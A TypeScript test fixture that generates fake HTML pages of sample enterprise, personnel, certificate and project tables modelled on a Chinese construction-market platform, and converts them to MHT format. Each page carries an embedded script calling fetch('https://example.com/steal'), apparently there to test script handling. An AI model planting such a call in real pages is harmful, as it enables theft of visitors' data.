/**
 * Pages with the structure of the national platform's public pages and fictitious content (示例): headings in a separate table, fixed
 * columns.
 */

const headTable = (cells: readonly string[]) =>
  `<div class="el-table__header-wrapper"><table class="el-table__header"><thead><tr>${cells
    .map((cell) => `<th colspan="1" rowspan="1" class="is-leaf"><div class="cell">${cell}</div></th>`)
    .join('')}</tr></thead></table></div>`;
const bodyTable = (rows: readonly (readonly string[])[]) =>
  `<div class="el-table__body-wrapper"><table class="el-table__body"><tbody>${rows
    .map(
      (row) =>
        `<tr class="el-table__row">${row.map((cell) => `<td><div class="cell">${cell}</div></td>`).join('')}</tr>`,
    )
    .join('')}</tbody></table></div>`;
const page = (...parts: readonly string[]) =>
  `<!DOCTYPE html><html><head><meta charset="utf-8"><title>示例：全国建筑市场监管公共服务平台</title>
  <script>document.title = '示例脚本'; fetch('https://example.com/steal')</script></head><body><h2>示例页面</h2>${parts.join('\n')}</body></html>`;

export const PEOPLE_HEADINGS = ['序号', '姓名', '身份证号', '注册类别', '注册号（执业印章号）', '注册专业'];

export const enterprisePage = (creditCode: string, rest: Partial<Record<'name' | 'legal', string>> = {}) =>
  page(
    `<table><tr><td>企业名称</td><td>${rest.name ?? '示例建设有限公司'}</td><td>企业法定代表人</td><td>${rest.legal ?? '示例李四'}</td></tr>
     <tr><td>统一社会信用代码</td><td>${creditCode}</td><td>企业登记注册类型</td><td>有限责任公司</td></tr>
     <tr><td>企业经营地址</td><td colspan="3">示例市示例路 1 号</td></tr></table>`,
  );

export const peoplePage = (rows: readonly (readonly string[])[], total: number) =>
  page(
    headTable(PEOPLE_HEADINGS),
    bodyTable(rows),
    // The same columns again, as the page repeats them for fixed columns.
    headTable(PEOPLE_HEADINGS),
    bodyTable(rows),
    `<div class="el-pagination"><span>共 ${total} 条</span></div>`,
  );

export const certificatesPage = (rows: readonly (readonly string[])[]) =>
  page(
    headTable(['序号', '资质类别', '资质证书号', '资质名称', '发证日期', '发证有效期', '发证机关']),
    bodyTable(rows),
  );

/** The columns have a different order than on the platform. */
export const projectsPage = (rows: readonly (readonly string[])[], total: number) =>
  page(
    headTable(['项目名称', '建设单位', '项目编号', '项目类别', '项目属地']),
    bodyTable(rows),
    `<p>共 ${total} 条</p>`,
  );

const quoted = (text: string) =>
  [...Buffer.from(text)]
    .map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`)
    .join('')
    .replace(/(.{72})/g, '$1=\r\n');

/** Converts a page to the format in which a browser saves a complete page. */
export const convertToMht = (html: string) =>
  [
    'From: <Saved by Blink>',
    'Snapshot-Content-Location: https://example.com/示例',
    'Subject: =?utf-8?Q?sample?=',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related;',
    '\ttype="text/html";',
    '\tboundary="----MultipartBoundary--sample----"',
    '',
    '',
    '------MultipartBoundary--sample----',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    'Content-Location: https://example.com/',
    '',
    quoted(html),
    '------MultipartBoundary--sample----',
    'Content-Type: image/png',
    'Content-Transfer-Encoding: base64',
    '',
    'iVBORw0KGgo=',
    '------MultipartBoundary--sample------',
    '',
  ].join('\r\n');
